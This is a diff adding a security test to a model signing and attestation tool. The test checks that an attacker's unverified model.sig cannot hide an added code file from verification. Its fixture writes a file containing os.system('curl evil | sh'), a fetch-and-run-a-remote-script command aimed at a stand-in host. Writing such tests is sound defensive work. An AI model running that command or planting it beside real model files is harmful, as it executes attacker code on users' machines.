@@ -513,3 +513,34 @@ def test_directory_facts_with_a_signature_elsewhere_hash_once_where_the_two_step
     assert directory_facts(model_dir, verifier, signature=signature) == expected
     assert len(calls) == hashings
     assert not [r for r in caplog.records if "no longer matches" in r.getMessage()]
+
+
+def test_an_unverified_model_sig_cannot_hide_a_file_from_the_attestations_subject(
+    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], other_keys: tuple[Path, Path]
+) -> None:
+    """The subject of a directory whose model.sig does not verify is hashed with the serialization
+    that model.sig states, unverified: its ignore paths must not leave out a file. Otherwise code
+    added beside the weights, with a model.sig of the attacker's own listing it as ignored, keeps
+    every attestation of the clean model "present" and `--require` passes."""
+    from guard.signing import Serialization
+
+    private, public = keys
+    sign_model(model_dir, KeySigner.from_file(private))
+    bom, att = tmp_path / "bom.json", tmp_path / "bom.att.json"
+    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
+    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(private), "-o", str(att)]) == 0
+    required = ["facts", str(model_dir), "--key", str(public), "--attestation", str(att), "--require", "sbom"]
+    assert run(required) == 0
+    # the attacker adds code a loader runs, and a model.sig of their own key that ignores it
+    (model_dir / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
+    sign_model(
+        model_dir,
+        KeySigner.from_file(other_keys[0]),
+        serialization=Serialization(ignore_paths=(".git", "modeling_evil.py")),
+    )
+    verified = directory_subject(model_dir, verifying=True).manifest
+    assert verified is not None and "modeling_evil.py" in {r.name for r in verified.resources}
+    assert run(required) == 1
+    # the signer's side honours its own ignore paths, as before
+    signer_side = directory_subject(model_dir).manifest
+    assert signer_side is not None and "modeling_evil.py" not in {r.name for r in signer_side.resources}
